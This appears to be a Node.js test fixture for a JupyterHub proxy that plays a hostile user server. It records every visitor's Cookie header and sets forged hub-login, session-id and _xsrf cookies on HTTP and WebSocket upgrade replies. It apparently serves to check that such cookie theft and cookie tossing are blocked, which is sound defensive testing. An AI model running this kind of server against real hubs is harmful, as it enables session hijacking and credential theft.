// A user's server that is after everybody's cookies: it answers each request with what it was shown, sets whatever the
// hub goes by, and does the same with WebSockets as far as an upgrade's answer.
import { createHash, createHmac } from 'node:crypto';
import { createServer } from 'node:http';

const { JUPYTERHUB_SERVICE_URL: url = '', JUPYTERHUB_API_TOKEN: token = '' } = process.env;
const { hostname, port, pathname } = new URL(url);

const SET = [
  'jupyterhub-hub-login=stolen; Path=/hub/',
  'jupyterhub-session-id=stolen; Path=/',
  '=jupyterhub-session-id=stolen; Path=/hub/',
  '_xsrf=stolen; Path=/hub/',
  '_xsrf=stolen; Path=/',
  `own=kept; Path=${pathname}`,
];
const seen = [];

const server = createServer((request, response) => {
  const { pathname: path, searchParams } = new URL(request.url ?? '/', 'http://server');
  if (path === `${pathname}api/anteroom/proof`) {
    const proof = createHmac('sha256', token)
      .update(`anteroom-proof:${searchParams.get('nonce')}`)
      .digest('hex');
    response.setHeader('content-type', 'application/json').end(JSON.stringify({ proof }));
    return;
  }
  response.setHeader('x-jupyterhub-version', '6.1.1');
  if (path === `${pathname}api`) {
    response.end('{"version": "thief"}');
    return;
  }
  seen.push(request.headers.cookie ?? '');
  response.setHeader('set-cookie', SET).setHeader('content-type', 'application/json');
  response.end(JSON.stringify(seen));
});
server.on('upgrade', (request, socket) => {
  seen.push(request.headers.cookie ?? '');
  const accept = createHash('sha1')
    .update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
    .digest('base64');
  const cookies = SET.map((line) => `Set-Cookie: ${line}\r\n`).join('');
  socket.write(
    `HTTP/1.1 101 Go\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: ${accept}\r\n${cookies}\r\n`,
  );
  socket.on('error', () => socket.destroy());
});
server.listen(Number(port), hostname);
